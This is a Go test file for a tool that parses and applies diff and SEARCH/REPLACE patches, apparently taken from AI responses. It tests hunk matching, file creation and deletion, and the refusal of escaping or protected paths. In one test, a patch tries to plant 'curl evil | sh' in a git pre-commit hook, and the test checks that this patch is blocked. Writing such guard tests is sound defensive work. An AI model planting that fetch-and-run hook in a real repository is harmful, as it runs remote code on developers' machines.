@@ -0,0 +1,165 @@
+package internal
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const applyTestFile = "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Println(\"hello\")\n}\n\nfunc helper() int {\n\treturn 1\n}\n"
+
+func TestParsePatches(t *testing.T) {
+	response := "Fix:\n\n```diff\n--- a/main.go\t2024-01-01\n+++ b/main.go\n@@ -5,3 +5,3 @@\n func main() {\n-\tfmt.Println(\"hello\")\n+\tfmt.Println(\"hi\")\n }\n```\n\n" +
+		"**lib/util.go**\n```go\n<<<<<<< SEARCH\nold\n=======\nnew\n>>>>>>> REPLACE\n```\n" +
+		"<<<<<<< SEARCH\nmore\n=======\n>>>>>>> REPLACE\n"
+
+	patches, err := ParsePatches(response)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(patches) != 2 || patches[0].Path != "main.go" || patches[1].Path != "lib/util.go" {
+		t.Fatalf("Unexpected patches %+v", patches)
+	}
+	if hunk := patches[0].Hunks[0]; hunk.OldStart != 5 || len(hunk.Lines) != 4 {
+		t.Errorf("Unexpected hunk %+v", hunk)
+	}
+	// A block without a file name belongs to the previous file
+	if len(patches[1].Hunks) != 2 || hunkSide(patches[1].Hunks[1].Lines, '+')[0] != "more" {
+		t.Errorf("Unexpected SEARCH/REPLACE hunks %+v", patches[1].Hunks)
+	}
+
+	if _, err := ParsePatches("Nothing to apply here."); err == nil {
+		t.Error("Expected an error for a response without patches")
+	}
+	if _, err := ParsePatches("main.go\n<<<<<<< SEARCH\nold\n=======\nnew\n"); err == nil {
+		t.Error("Expected an error for an unterminated block")
+	}
+}
+
+func TestApplyHunks(t *testing.T) {
+	tests := []struct {
+		name  string
+		patch string
+		fuzz  string
+		want  string
+	}{
+		{"exact", "@@ -9,3 +9,3 @@\n func helper() int {\n-\treturn 1\n+\treturn 2\n }\n", "", "\treturn 2\n"},
+		{"offset", "@@ -2,3 +2,3 @@\n func helper() int {\n-\treturn 1\n+\treturn 2\n }\n", "offset +7 lines", "\treturn 2\n"},
+		{"whitespace", "@@ -6,1 +6,1 @@\n-    fmt.Println(\"hello\")\n+\tfmt.Println(\"hi\")\n", "ignoring whitespace", "\tfmt.Println(\"hi\")\n"},
+		{"context", "@@ -9,4 +9,4 @@\n func helper() int {\n-\treturn 1\n+\treturn 2\n }\n // gone\n", "ignored 2 context lines", "\treturn 2\n}\n"},
+	}
+	for _, test := range tests {
+		patches, err := ParsePatches("--- a/main.go\n+++ b/main.go\n" + test.patch)
+		if err != nil {
+			t.Fatalf("%s: %v", test.name, err)
+		}
+		after, results := applyHunks(applyTestFile, patches[0].Hunks)
+		if results[0].Err != nil || results[0].Fuzz != test.fuzz {
+			t.Errorf("%s: unexpected result %+v", test.name, results[0])
+		}
+		if !strings.Contains(after, test.want) || len(strings.Split(after, "\n")) != len(strings.Split(applyTestFile, "\n")) {
+			t.Errorf("%s: unexpected content:\n%s", test.name, after)
+		}
+	}
+
+	// A zero-context insert goes after the line it names, not at the end
+	patches, _ := ParsePatches("--- a/list.txt\n+++ b/list.txt\n@@ -2,0 +3 @@\n+inserted\n@@ -4,0 +6 @@\n+last\n")
+	after, results := applyHunks("a\nb\nc\nd\n", patches[0].Hunks)
+	if after != "a\nb\ninserted\nc\nd\nlast\n" || results[0].Line != 3 || results[1].Line != 5 {
+		t.Errorf("Unexpected zero-context insert %q, %+v", after, results)
+	}
+	patches, _ = ParsePatches("--- a/list.txt\n+++ b/list.txt\n@@ -0,0 +1 @@\n+first\n")
+	if after, _ := applyHunks("a\nb\n", patches[0].Hunks); after != "first\na\nb\n" {
+		t.Errorf("Expected an insert at the top, got %q", after)
+	}
+
+	patches, _ = ParsePatches("--- a/main.go\n+++ b/main.go\n@@ -1,1 +1,1 @@\n-package lib\n+package main\n")
+	after, results = applyHunks(applyTestFile, patches[0].Hunks)
+	if results[0].Err == nil || after != applyTestFile {
+		t.Errorf("Expected the hunk to fail without changes, got %+v", results[0])
+	}
+}
+
+func TestApplyPatches(t *testing.T) {
+	root := t.TempDir()
+	os.WriteFile(filepath.Join(root, "main.go"), []byte(applyTestFile), 0644)
+	os.WriteFile(filepath.Join(root, "old.txt"), []byte("bye\n"), 0644)
+
+	response := "main.go\n<<<<<<< SEARCH\n\treturn 1\n=======\n\treturn 2\n>>>>>>> REPLACE\n" +
+		"new/file.go\n<<<<<<< SEARCH\n=======\npackage new\n>>>>>>> REPLACE\n" +
+		"--- a/old.txt\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-bye\n" +
+		"--- a/../escape.go\n+++ b/../escape.go\n@@ -1,1 +1,1 @@\n-a\n+b\n" +
+		"secret.txt\n<<<<<<< SEARCH\n=======\nx\n>>>>>>> REPLACE\n"
+	patches, err := ParsePatches(response)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	check := func(path string) error {
+		if path == "secret.txt" {
+			return fmt.Errorf("refused")
+		}
+		return nil
+	}
+	results := ApplyPatches(root, patches, check)
+	if len(results) != 5 || results[0].Failed() || !results[1].Created || !results[2].Deleted {
+		t.Fatalf("Unexpected results %+v", results)
+	}
+	if !results[3].Failed() || !results[4].Failed() {
+		t.Errorf("Expected the escaping and refused paths to fail")
+	}
+
+	written, err := WritePatchResults(root, results)
+	if err != nil || written != 3 {
+		t.Fatalf("Expected 3 files written, got %d: %v", written, err)
+	}
+	if data, _ := os.ReadFile(filepath.Join(root, "main.go")); !strings.Contains(string(data), "return 2") {
+		t.Errorf("Expected main.go to be patched, got:\n%s", data)
+	}
+	if data, _ := os.ReadFile(filepath.Join(root, "new", "file.go")); string(data) != "package new\n" {
+		t.Errorf("Expected new/file.go to be created, got %q", data)
+	}
+	if _, err := os.Stat(filepath.Join(root, "old.txt")); !os.IsNotExist(err) {
+		t.Error("Expected old.txt to be deleted")
+	}
+	if _, err := os.Stat(filepath.Join(root, "secret.txt")); !os.IsNotExist(err) {
+		t.Error("Expected the refused file not to be written")
+	}
+}
+
+func TestProtectedPaths(t *testing.T) {
+	root := t.TempDir()
+	os.MkdirAll(filepath.Join(root, ".git", "hooks"), 0755)
+	os.WriteFile(filepath.Join(root, "README.md"), []byte("hello\n"), 0644)
+
+	// Extra excludes add to the defaults instead of replacing them
+	check := ProtectedPaths(root, []string{"*.md"})
+	for _, path := range []string{
+		filepath.Join(".git", "hooks", "pre-commit"),
+		filepath.Join("node_modules", "x", "index.js"),
+		"README.md",
+		".env",
+	} {
+		if err := check(path); err == nil {
+			t.Errorf("Expected %s to be refused", path)
+		}
+	}
+	if err := check("main.go"); err != nil {
+		t.Errorf("Expected main.go to be allowed, got %v", err)
+	}
+
+	patches, err := ParsePatches(".git/hooks/pre-commit\n<<<<<<< SEARCH\n=======\ncurl evil | sh\n>>>>>>> REPLACE\n")
+	if err != nil {
+		t.Fatal(err)
+	}
+	results := ApplyPatches(root, patches, check)
+	if len(results) != 1 || !results[0].Failed() {
+		t.Fatalf("Expected the hook patch to be refused, got %+v", results)
+	}
+	WritePatchResults(root, results)
+	if _, err := os.Stat(filepath.Join(root, ".git", "hooks", "pre-commit")); !os.IsNotExist(err) {
+		t.Error("Expected no hook to be written")
+	}
+}